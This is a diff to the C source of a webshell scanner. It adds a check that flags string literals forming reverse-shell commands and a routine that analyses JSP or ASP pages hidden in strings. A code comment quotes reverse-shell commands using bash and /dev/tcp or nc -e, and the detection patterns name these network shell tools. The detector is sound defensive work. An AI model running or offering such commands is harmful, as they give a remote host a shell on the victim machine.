@@ -25,6 +25,7 @@ double lang_now(void) {
 
 static void analyze_payload(lang_ctx *c, const char *code, size_t n, syntax syn, const char *prefix,
                      unsigned line);
+static void embedded_pages(lang_ctx *c);
 
 static void add_detection(lang_ctx *c, const char *rule, const char *category, int score, unsigned line,
                    const char *fmt, ...) {
@@ -224,6 +225,21 @@ static int runtime_decoded(const lang_ctx *c, size_t a, size_t b, char *name, si
   return 1;
 }
 
+/* A constant command line that hands a shell to a remote host:
+ * "bash -i >& /dev/tcp/host/port 0>&1", "nc -e /bin/sh host port". */
+static int reverse_shell(const lang_ctx *c, size_t a, size_t b) {
+  for (size_t i = a; i < b; i++) {
+    const token *t = &c->st[i];
+    if (t->kind != TK_STR) continue;
+    const char *s = tok_text(c, t);
+    if (memmem(s, t->len, "/dev/tcp/", 9) || memmem(s, t->len, "/dev/udp/", 9) ||
+        ((memmem(s, t->len, "nc ", 3) || memmem(s, t->len, "ncat ", 5)) &&
+         (memmem(s, t->len, " -e /bin/", 9) || memmem(s, t->len, " -e cmd", 7))))
+      return 1;
+  }
+  return 0;
+}
+
 /* A dangerous call d (shown as display) at line with arguments st[a, b). */
 static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsigned line, size_t a,
                        size_t b) {
@@ -281,6 +297,11 @@ static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsi
     break;
   case SK_CMD:
     if (d->arg && arg_span(c, a, b, d->arg, &s, &e)) a = s, b = e; /* exec($cmd, $output): the command */
+    if (c->syn != SYN_PHP && reverse_shell(c, a, b)) {
+      add_detection(c, "shellsift.lang.command-exec", "webshell", 80, line,
+                    "%s starts a reverse shell: the command sends a shell to a remote host (line %u)", display, line);
+      break;
+    }
     if (lang_span_taint(c, a, b, &t)) {
       chain_note(&t, note, sizeof note);
       add_detection(c, "shellsift.lang.command-exec", "webshell", strength(&t), line,
@@ -651,6 +672,7 @@ static void process(lang_ctx *c) {
   lang_fold_statement(c, eq < c->nst ? eq + 1 : 0);
   if (eq < c->nst) eq = find_assign(c); /* folding never moves it, but be sure */
   find_sinks(c);
+  embedded_pages(c);
   lang_caps_statement(c);
   record_assignment(c, eq);
   record_define(c);
@@ -797,7 +819,10 @@ static void run(lang_ctx *c, const unsigned char *buf, size_t len, const char *f
   }
 }
 
-static void analyze_payload(lang_ctx *c, const char *code, size_t n, syntax syn, const char *prefix, unsigned line) {
+/* Code found inside the file (a decoded payload, or with page set, a whole
+ * server page kept in a string) analysed one level deeper. */
+static void analyze_code(lang_ctx *c, const char *code, size_t n, syntax syn, const char *page, const char *prefix,
+                         unsigned line) {
   if (c->level + 1 >= c->lim.max_depth) {
     c->budget->exhausted = 1;
     if (!c->budget->why) c->budget->why = "decode depth limit";
@@ -813,12 +838,33 @@ static void analyze_payload(lang_ctx *c, const char *code, size_t n, syntax syn,
   k->level = c->level + 1;
   k->prefix = full;
   k->outer_line = c->level ? c->outer_line : line;
-  run(k, copy, n, NULL, 1, syn);
+  run(k, copy, n, page, page == NULL, syn);
   c->builders += k->builders;
   lang_caps_merge(&c->caps, &k->caps);
   free(copy);
   free(full);
   lang_ctx_free(k);
+}
+
+static void analyze_payload(lang_ctx *c, const char *code, size_t n, syntax syn, const char *prefix, unsigned line) {
+  analyze_code(c, code, n, syn, NULL, prefix, line);
+}
+
+/* A JSP or ASP page kept in a string literal (a dropper writes it out
+ * later): read it as the page it is. */
+static void embedded_pages(lang_ctx *c) {
+  static const char *const kinds[] = {[SYN_JAVA] = "JSP", [SYN_CSHARP] = "ASPX", [SYN_VB] = "ASP",
+                                      [SYN_JSCRIPT] = "ASP"};
+  if (c->level || c->syn == SYN_PHP || c->syn == SYN_CFML) return;
+  for (size_t i = 0; i < c->nst; i++) {
+    const token *t = &c->st[i];
+    if (t->kind != TK_STR || t->len < 24 || (t->flags & TF_BINARY)) continue;
+    const char *s = tok_text(c, t);
+    if (!memmem(s, t->len, "<%", 2) || !(memmem(s, t->len, "equest", 6))) continue;
+    char prefix[96];
+    snprintf(prefix, sizeof prefix, "a server page kept in a string (line %u): ", t->line);
+    analyze_code(c, s, t->len, c->syn, kinds[c->syn], prefix, t->line);
+  }
 }
 
 /* What only the whole page shows: code run from a value built at run
